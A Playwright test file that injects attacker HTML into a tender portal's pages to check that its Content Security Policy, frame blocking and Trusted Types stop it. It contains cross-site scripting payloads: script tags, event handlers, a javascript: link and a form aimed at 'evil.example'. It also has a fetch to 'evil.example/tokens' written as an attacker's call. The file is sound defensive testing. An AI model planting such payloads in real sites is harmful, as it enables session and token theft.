import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import { findChromium, PAGE_WAIT_MS, startBrowser } from '../../support/chromium.ts';
import { startTestPortal, type TestPortal } from '../../support/portal.ts';

const chromium = findChromium();
const EVIL = 'https://evil.example';

/** Markup of an attacker, as if a text of a tender had come through unescaped. Each kind sets `window.hit` or asks the other host. */
const IN_HEAD = `<base href="${EVIL}/"><style>h1{position:fixed}</style><link rel="stylesheet" href="${EVIL}/x.css">
  <script>window.hit='inline'</script><script src="${EVIL}/x.js"></script><meta http-equiv="refresh" content="900;url=${EVIL}/">`;
const IN_BODY = `<a id="lure" href="javascript:void(window.hit='link')">lure</a><p id="styled" style="position:fixed">x</p>
  <img src="/none" onerror="window.hit='handler'"><img src="${EVIL}/x.png"><iframe src="${EVIL}/"></iframe>
  <object data="${EVIL}/x.swf"></object><svg onload="window.hit='svg'"></svg>
  <form action="${EVIL}/" method="post"><button id="send">send</button></form>`;

/** Directives that the markup violates, as browsers name them in reports. */
const VIOLATED = [
  'base-uri',
  'connect-src',
  'form-action',
  'frame-src',
  'img-src',
  'object-src',
  'script-src-attr',
  'script-src-elem',
  'style-src-attr',
  'style-src-elem',
];

/** What the tests read in the page. */
interface Probe {
  hit?: unknown;
  readonly violated: string[];
}

const PROBE = `window.violated = [];
  document.addEventListener('securitypolicyviolation', (event) => window.violated.push(event.effectiveDirective));`;

describe.skipIf(chromium === undefined)('markup that an attacker brings into a page (P10)', () => {
  let portal: TestPortal;
  let browser: Browser;

  beforeAll(async () => {
    [portal, browser] = await Promise.all([startTestPortal(inject('gatewayUrl')), startBrowser(chromium ?? '')]);
  });

  afterAll(async () => {
    await browser.close();
    await portal.stop();
  });

  /** Opens a page into whose answer the markup is written. */
  async function openInjected(path: string, foreign: string[]): Promise<Page> {
    const context = await browser.newContext();
    context.setDefaultTimeout(PAGE_WAIT_MS);
    await context.addInitScript({ content: PROBE });
    const page = await context.newPage();
    // The browser sends no request that the policy blocks: what arrives here was not blocked.
    await page.route(`${EVIL}/**`, async (route) => {
      foreign.push(route.request().url());
      await route.fulfill({ contentType: 'text/javascript', body: `window.hit='foreign'` });
    });
    await page.route(portal.url + path, async (route) => {
      const response = await route.fetch();
      const body = (await response.text())
        .replace('<head>', `<head>${IN_HEAD}`)
        .replace('</main>', `${IN_BODY}</main>`);
      await route.fulfill({ response, body });
    });
    await page.goto(portal.url + path);
    return page;
  }

  const probe = async (page: Page): Promise<Probe> =>
    page.evaluate(() => {
      // Safe cast: the script above made it.
      const { hit, violated } = globalThis as unknown as Probe;
      return { hit, violated };
    });

  it.each(['/en', '/tenders', '/en/play', '/en/nothing'])(
    'runs nothing at %s, asks no other host, and is reported',
    async (path) => {
      const foreign: string[] = [];
      const page = await openInjected(path, foreign);
      await page.locator('#lure').click();
      // Not a click by the mouse: that would wait for the navigation, which the policy forbids.
      await page.evaluate(`document.querySelector('#send').click()`);
      // As a script of the attacker would, had it run.
      await page.evaluate(`fetch('${EVIL}/tokens').catch(() => undefined)`);
      // Not `waitForFunction`: it polls by `eval`, which the policy forbids.
      await expect.poll(async () => [...new Set((await probe(page)).violated)].toSorted()).toEqual(VIOLATED);
      expect([(await probe(page)).hit, foreign]).toEqual([undefined, []]);
      expect(page.url()).toBe(portal.url + path);
      const looks = await page.evaluate(
        `[document.baseURI, ...['h1', '#styled'].map((it) => getComputedStyle(document.querySelector(it)).position)]`,
      );
      expect(looks).toEqual([portal.url + path, 'static', 'static']);
      await page.context().close();
    },
  );

  it('cannot stand around a page: no other page shows one in a frame', async () => {
    const page = await browser.newPage();
    await page.setContent(`<iframe src="${portal.url}/en/play"></iframe>`);
    const [, frame] = page.frames();
    // What stands there is an error page of the browser.
    expect(await frame?.locator('.site-header').count()).toBe(0);
    expect(frame?.url()).not.toContain(portal.url);
    await page.close();
  });

  it('is refused by Trusted Types where a script writes it', async () => {
    const page = await openInjected('/en', []);
    const refused = await page.evaluate(`['innerHTML', 'outerHTML'].map((sink) => {
      try { document.querySelector('h1')[sink] = '<img onerror="window.hit=1" src="/none">'; return 'written'; }
      catch (error) { return error.name; }
    }).concat((() => { try { return typeof trustedTypes.createPolicy('mine', {}); } catch (error) { return error.name; } })())`);
    expect(refused).toEqual(['TypeError', 'TypeError', 'TypeError']);
    expect((await probe(page)).hit).toBeUndefined();
    await page.context().close();
  });
});
